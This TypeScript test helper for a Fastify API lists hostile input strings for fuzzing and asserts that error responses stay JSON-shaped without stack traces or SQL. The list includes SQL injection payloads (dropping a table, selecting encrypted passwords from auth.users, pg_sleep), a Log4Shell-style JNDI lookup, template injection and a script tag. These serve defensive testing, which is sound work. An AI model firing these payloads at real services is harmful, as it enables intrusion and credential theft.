import type { LightMyRequestResponse } from 'fastify';
import { expect } from 'vitest';

/** Strings that have broken SQL built by concatenation, encodings and JSON handling elsewhere. */
export const nastyStrings: string[] = [
  "'; drop table profiles; --",
  '" or 1=1 --',
  "' or '1'='1",
  "admin'--",
  '1; select pg_sleep(5)',
  "%' union select encrypted_password from auth.users --",
  '$1 $$ $body$ \\\' \\\\ \\x00',
  '${jndi:ldap://example.com/a} {{7*7}}',
  '<script>alert(1)</script>',
  'Zoë 🧊 ساونا 漢字 \u202Eevil',
  'a\u0000b',
];

/** True for a string Postgres cannot store as text (it has no NUL character). */
export const hasNul = (s: string) => s.includes('\u0000');

/** Every error response: `{error: {code, message, details?}}`, JSON, with no stack trace or SQL in it. */
export function expectErrorShape(res: LightMyRequestResponse): void {
  expect(res.headers['content-type'], res.body).toMatch(/^application\/json/);
  const body = res.json() as { error?: Record<string, unknown> };
  expect(Object.keys(body), res.body).toEqual(['error']);
  expect(typeof body.error?.code, res.body).toBe('string');
  expect(body.error?.code, res.body).toMatch(/^[a-z_]+$/);
  expect(typeof body.error?.message, res.body).toBe('string');
  for (const key of Object.keys(body.error ?? {})) expect(['code', 'message', 'details'], res.body).toContain(key);
  expect(res.body).not.toMatch(/\bstack\b|\.ts:\d+|node_modules|\bSQLSTATE\b|\bselect\b.*\bfrom\b|\binsert into\b|\bpg_catalog\b|\bpublic\.\w+\(|\bapp_private\b/i);
}

/** Status < 500, and any error has the one shape. */
export function expectNo5xx(res: LightMyRequestResponse, context = ''): void {
  expect(res.statusCode, `${context} → ${res.statusCode} ${res.body.slice(0, 300)}`).toBeLessThan(500);
  if (res.statusCode >= 400) expectErrorShape(res);
}
